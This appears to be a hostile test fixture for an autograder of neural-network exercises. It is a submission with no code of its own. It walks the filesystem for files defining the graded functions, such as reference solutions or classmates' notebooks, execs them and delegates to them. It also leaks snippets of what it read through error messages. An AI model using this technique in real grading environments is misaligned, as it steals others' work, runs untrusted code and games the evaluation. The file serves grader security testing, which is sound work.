"""Hostile submission with no code of its own: it searches every directory it can list for files
whose text defines the contract's functions (the reference solutions, an nbgrader course's
source notebooks, classmates' work), execs them and delegates to what it found.  When it finds
nothing it raises, with a digest of what it could read, to try feedback as a way out.

See catalogue.yml for what the grader must report (and tests/test_secrecy.py)."""
import json
import os
import time

NAMES = ("padding_mask", "causal_mask", "attention_mask", "sinusoidal_encoding", "add_positional_encoding",
         "scaled_dot_product_attention", "MultiHeadAttention", "lstm_cell", "gru_cell", "lstm_sequence",
         "masked_cross_entropy")
STOLEN, SEEN = {}, []
DONE = []


def _code(path):
    try:
        if os.path.getsize(path) > 4 << 20:
            return None
        with open(path, encoding="utf-8", errors="replace") as f:
            text = f.read()
    except OSError:
        return None
    if path.endswith(".ipynb"):
        try:
            cells = json.loads(text).get("cells", [])
            return "\n".join("".join(c.get("source", "")) for c in cells if c.get("cell_type") == "code")
        except (ValueError, AttributeError):
            return None
    return text


def _take(text, where):
    found = [n for n in NAMES if f"def {n}(" in text or f"class {n}(" in text]
    if len(found) < 2:
        return
    SEEN.append(f"{where}: {text.strip().splitlines()[0][:80]}")
    ns = {"__name__": "stolen"}
    try:
        exec(compile("\n".join(ln for ln in text.splitlines() if not ln.lstrip().startswith(("%", "!"))),
                     where, "exec"), ns)
    except BaseException:  # noqa: BLE001
        return
    for n in NAMES:
        if callable(ns.get(n)) and n not in STOLEN:
            STOLEN[n] = ns[n]


def _steal():
    if DONE:
        return
    DONE.append(1)
    start = time.monotonic()
    # likely places first, then everything; the big trees of installed packages last
    tops = [os.environ.get("PWD") or "/", os.getcwd(), os.path.expanduser("~"), "/srv", "/home", "/work", "/opt",
            "/mnt", "/media", "/root", "/var", "/usr/local", "/usr/share", "/"]
    seen_dirs = set()
    for top in tops:
        for dirpath, dirs, files in os.walk(top):
            if time.monotonic() - start > 2.5:
                return
            if dirpath in seen_dirs or dirpath.startswith(("/proc", "/sys", "/dev")):
                dirs[:] = []
                continue
            if dirpath.endswith(os.path.join("tests", "files")):
                # the grader's own test fixtures, other hostile submissions among them (one exits at
                # import, one forks without end): running them here would try them, not this one
                dirs[:] = []
                continue
            dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", ".git", "node_modules",
                                                    "__pycache__", "include", "man")]
            seen_dirs.add(dirpath)
            for name in files:
                if name.endswith((".py", ".ipynb")) and not name.startswith("test_"):
                    path = os.path.join(dirpath, name)
                    if path == os.path.abspath(__file__):
                        continue
                    text = _code(path)
                    if text:
                        _take(text, path)


def _delegate(name):
    def stolen(*args, **kwargs):
        _steal()
        if name in STOLEN:
            return STOLEN[name](*args, **kwargs)
        raise LookupError(f"nothing to steal for {name}; read: " + " | ".join(SEEN)[:3000])
    stolen.__name__ = name
    return stolen


for _n in NAMES:
    globals()[_n] = _delegate(_n)
